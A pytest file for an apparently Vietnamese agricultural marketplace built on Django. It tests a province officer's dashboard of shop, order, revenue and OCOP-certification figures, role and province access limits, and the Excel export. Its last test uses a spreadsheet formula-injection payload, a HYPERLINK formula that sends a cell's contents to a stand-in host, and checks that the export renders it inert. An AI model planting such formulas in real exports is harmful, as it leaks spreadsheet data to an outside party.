"""The province's dashboard: figures scoped to the officer's province, the OCOP share, Excel."""

import datetime
import uuid
from io import BytesIO

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from banso.accounts.models import PlaceRole
from banso.accounts.services import role_grant
from banso.market.models import Listing, ListingStatus, Order, OrderStatus
from banso.market.selectors.dashboard import dashboard_figures
from banso.orgs.services import certificate_add
from banso.places.models import AdministrativeUnit
from banso.trace.tests.makers import product_make

pytestmark = pytest.mark.django_db


def ocop(organisation, actor, *, valid_until=None):
    return certificate_add(
        actor=actor,
        organisation=organisation,
        kind="ocop",
        issuer="UBND tỉnh Lào Cai",
        number=f"OCOP-{organisation.pk}",
        valid_from=datetime.date(2024, 3, 1),
        valid_until=valid_until,
        ocop_stars=3,
        ocop_year=2024,
    )


def order(shop, *, status, total, days_ago=0, code="BS000001"):
    created = timezone.now() - datetime.timedelta(days=days_ago)
    made = Order.objects.create(
        code=code,
        checkout=uuid.uuid4(),
        shop=shop,
        buyer_name="Mai",
        buyer_phone="0912345678",
        delivery_method="pickup",
        payment_method="cod",
        status=status,
        subtotal_vnd=total,
        total_vnd=total,
        delivered_at=created if status == OrderStatus.DELIVERED else None,
    )
    Order.objects.filter(pk=made.pk).update(created_at=created)
    return made


@pytest.fixture
def market(shop, listing, other_shop, other_listing, coop, other_coop, superuser, product):
    """Two OCOP products on sale (one certified on the product, one on the listing), one OCOP
    product not listed, one whose certificate expired, orders of both shops."""
    certificate = ocop(coop, superuser)
    product.certificates.add(certificate)
    other_certificate = ocop(other_coop, superuser)
    Listing.objects.filter(pk=other_listing.pk).update(
        ocop_certificate=other_certificate, ocop_group="food"
    )
    unlisted = product_make(coop, name="Chè Shan Tuyết", item=5, category="tea")
    unlisted.certificates.add(certificate)
    expired = product_make(coop, name="Mật ong", item=6)
    expired.certificates.add(ocop(coop, superuser, valid_until=datetime.date(2025, 1, 1)))
    product_make(coop, name="Không OCOP", item=7)
    order(shop, status=OrderStatus.DELIVERED, total=250000, code="BS000001")
    order(shop, status=OrderStatus.DELIVERED, total=450000, days_ago=60, code="BS000002")
    order(other_shop, status=OrderStatus.NEW, total=60000, code="BS000003")
    order(other_shop, status=OrderStatus.CANCELLED, total=60000, days_ago=45, code="BS000004")
    return unlisted


def test_figures_of_the_province(market, province_officer):
    figures = dashboard_figures(province_officer)
    assert figures.shops_by_status == {"approved": 2}
    assert figures.listings_on_sale == 2
    assert figures.orders_by_status == {"delivered": 2, "new": 1, "cancelled": 1}
    assert figures.orders_by_status_30_days == {"delivered": 1, "new": 1}
    assert (figures.revenue_vnd, figures.revenue_30_days_vnd) == (700000, 250000)
    assert (figures.ocop_products, figures.ocop_products_listed) == (3, 2)
    assert figures.ocop_share_percent == 67
    assert [p.name for p in figures.ocop_not_listed] == ["Chè Shan Tuyết"]


def test_a_hidden_listing_does_not_count_as_listed(market, listing, province_officer):
    Listing.objects.filter(pk=listing.pk).update(status=ListingStatus.HIDDEN)
    figures = dashboard_figures(province_officer)
    assert (figures.ocop_products, figures.ocop_products_listed) == (3, 1)
    assert figures.listings_on_sale == 1


def test_another_provinces_officer_sees_none_of_it(market, make_user):
    officer = make_user("Cán bộ Hà Nội")
    hanoi = AdministrativeUnit.objects.get(is_current=True, level="province", code="01")
    role_grant(user=officer, role=PlaceRole.PROVINCE_OFFICER, unit=hanoi)
    figures = dashboard_figures(officer)
    assert figures.shops_by_status == {}
    assert (figures.listings_on_sale, figures.revenue_vnd, figures.ocop_products) == (0, 0, 0)
    assert figures.ocop_share is None


@pytest.mark.parametrize("who", ["commune_officer", "coop_member"])
def test_the_dashboard_is_for_province_officers(client, request, market, who):
    client.force_login(request.getfixturevalue(who))
    assert client.get("/market/dashboard/").status_code == 403
    assert client.get("/market/dashboard/export.xlsx").status_code == 403


def test_anonymous_is_sent_to_sign_in(client):
    assert client.get("/market/dashboard/").status_code == 302


def test_the_dashboard_page_and_its_excel(client, market, province_officer):
    client.force_login(province_officer)
    html = client.get("/market/dashboard/").content.decode()
    assert 'id="ocop-share">67%' in html  # no space before the sign
    assert "VND\u00a0700,000" in html
    assert "Chè Shan Tuyết" in html
    response = client.get("/market/dashboard/export.xlsx")
    book = load_workbook(BytesIO(response.content))
    figures, missing = book.worksheets
    values = [row for row in figures.iter_rows(values_only=True)]
    assert any(row[1:] == (250000, 700000) for row in values)
    assert any(row[2] == 67 for row in values)
    assert [row[1] for row in missing.iter_rows(min_row=2, values_only=True)] == ["Chè Shan Tuyết"]


def test_a_product_name_that_looks_like_a_formula_is_inert_in_the_excel(
    client, market, province_officer
):
    name = '=HYPERLINK("http://x.example/?"&A2,"Xem")'
    type(market).objects.filter(pk=market.pk).update(name=name)
    client.force_login(province_officer)
    response = client.get("/market/dashboard/export.xlsx")
    missing = load_workbook(BytesIO(response.content)).worksheets[1]
    cell = missing["B2"]
    assert (cell.data_type, cell.value) == ("s", "'" + name)
